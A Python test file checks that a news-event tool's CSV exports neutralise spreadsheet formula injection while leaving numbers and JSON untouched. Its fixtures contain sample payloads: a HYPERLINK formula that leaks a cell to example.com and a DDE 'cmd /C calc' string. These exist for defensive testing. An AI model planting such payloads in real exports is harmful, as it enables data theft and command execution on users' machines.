"""CSV exports guard text cells that a spreadsheet would run as a formula (CSV/formula injection, OWASP):
news text is written by others, and an analyst opens the CSV in Excel or LibreOffice. A text cell that
begins with =, +, -, @, a tab or a carriage return gets a ' before it; numbers are never changed (the
value's type decides, not its text); JSON and JSONL are unchanged; ``--csv-raw`` writes the CSV as it was."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from bilat import store
from bilat.cli import main
from bilat.export import csv_cell, write
from bilat.records import Actor, Document, Event, Paragraph, Sentence
from bilat.web import downloads

HYPERLINK = '=HYPERLINK("http://example.com/x?leak="&A1,"Click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_text_cell_that_starts_a_formula_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell(text, raw=True) == text


@pytest.mark.parametrize("text", [" =1+1", "  +1", "\t-2+3", "\r\n@SUM(A1)", "\u00a0=1", "\u3000=1", "\u200b=1",
                                  "\ufeff+1", "\x00=1", " \t =HYPERLINK(\"x\")"])
def test_a_formula_after_whitespace_or_invisible_characters_is_quoted(text: str) -> None:
    """robust57: a space (or another blank, or a zero-width character) before = + - @ was written as it was; a
    spreadsheet trims it or reads past it and runs the formula."""
    assert csv_cell(text) == "'" + text
    assert csv_cell(text, raw=True) == text


@pytest.mark.parametrize("text", ["Minsk talks", "", "a=b", "'=1", "[1, 2]", "1-2", " Minsk", "\u00a0", " 1-2"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("value", [-5, -0.25, 0, 3, 1e-9, -1e9, True, None])
def test_numbers_are_left_as_they_are(value) -> None:
    assert csv_cell(value) is value


def test_write_quotes_titles_and_keeps_negative_numbers() -> None:
    rows = [{"id": "d1", "title": HYPERLINK, "delta": -5, "score": -0.25, "start": 0,
             "actor": {"code": "VNM", "entity_text": "-Việt Nam"}, "tellings": [[-1, 2]]}]
    out = io.StringIO()
    assert write(rows, out, "csv") == 1
    (row,) = _rows(out.getvalue())
    assert row["title"] == "'" + HYPERLINK
    assert row["delta"] == "-5" and row["score"] == "-0.25" and row["start"] == "0"
    assert row["actor_entity_text"] == "'-Việt Nam" and row["actor_code"] == "VNM"
    assert row["tellings"] == "[[-1, 2]]"
    raw = io.StringIO()
    write(rows, raw, "csv", csv_raw=True)
    (row,) = _rows(raw.getvalue())
    assert row["title"] == HYPERLINK and row["actor_entity_text"] == "-Việt Nam" and row["delta"] == "-5"


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_json_formats_are_unchanged(fmt: str) -> None:
    rows = [{"id": "d1", "title": HYPERLINK, "delta": -5, "text": "@x"}]
    plain, raw = io.StringIO(), io.StringIO()
    write(rows, plain, fmt)
    write(rows, raw, fmt, csv_raw=True)
    assert plain.getvalue() == raw.getvalue()
    got = [json.loads(x) for x in plain.getvalue().splitlines()] if fmt == "jsonl" else json.loads(plain.getvalue())
    assert got == rows


@pytest.fixture
def hostile_store(tmp_path) -> str:
    text = "-5 dead as Vietnam and Belarus sign a defence deal in Minsk."
    event = Event(id="d1:e0", event="AGREE", actor=Actor(code="VNM", entity_text="=Vietnam"),
                  recipient=Actor(code="BLR", entity_text="Belarus"), date="2025-05-10", event_text=text,
                  doc="d1", start=0, end=len(text), confidence=0.99, lang="en")
    doc = Document(id="d1", source="d1.txt", original=text, text=text, lang="en", title=HYPERLINK,
                   url="https://example.org/a", outlet="example.org", published="2025-05-10",
                   paragraphs=(Paragraph(start=0, end=len(text), lang="en"),),
                   sentences=(Sentence(start=0, end=len(text)),), events=(event,))
    db = str(tmp_path / "h.db")
    conn = store.connect(db)
    store.save_document(conn, doc)
    conn.close()
    return db


def _export(db: str, kind: str, *args: str) -> str:
    result = CliRunner().invoke(main, ["export", kind, "--db", db, *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_cli_csv_quotes_a_hyperlink_title_and_csv_raw_does_not(hostile_store: str) -> None:
    (doc,) = _rows(_export(hostile_store, "documents", "--format", "csv"))
    assert doc["title"] == "'" + HYPERLINK and doc["text"].startswith("'-5 dead")
    assert doc["analysed_chars"] == "" and doc["sentences"].startswith("[")
    (event,) = _rows(_export(hostile_store, "events", "--format", "csv"))
    assert event["event_text"].startswith("'-5 dead") and event["actor_entity_text"] == "'=Vietnam"
    assert event["start"] == "0" and float(event["confidence"]) == 0.99
    (doc,) = _rows(_export(hostile_store, "documents", "--format", "csv", "--csv-raw"))
    assert doc["title"] == HYPERLINK and doc["text"].startswith("-5 dead")


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_cli_json_is_byte_for_byte_the_same_with_or_without_csv_raw(hostile_store: str, fmt: str) -> None:
    plain = _export(hostile_store, "documents", "--format", fmt)
    assert plain == _export(hostile_store, "documents", "--format", fmt, "--csv-raw")
    got = [json.loads(x) for x in plain.splitlines()] if fmt == "jsonl" else json.loads(plain)
    assert got[0]["title"] == HYPERLINK


def test_web_csv_download_is_guarded_and_json_is_not() -> None:
    row = {"id": "d1:e0", "event": "AGREE", "date": "2025-05-10", "event_text": "@SUM(A1)", "start": -1,
           "confidence": 0.5, "doc_title": HYPERLINK, "outlet": "example.org", "actor": {"code": "VNM"}}
    body, media = downloads.render([row], "csv")
    assert media.startswith("text/csv")
    (got,) = _rows(body)
    assert got["doc_title"] == "'" + HYPERLINK and got["event_text"] == "'@SUM(A1)"
    assert got["start"] == "-1" and got["confidence"] == "0.5"
    body, _ = downloads.render([row], "json")
    assert json.loads(body)[0]["doc_title"] == HYPERLINK
    (story,) = _rows(downloads.render([{"id": "s1", "title": "+cmd", "n": -3}], "csv", kind="stories")[0])
    assert story == {"id": "s1", "title": "'+cmd", "n": "-3"}
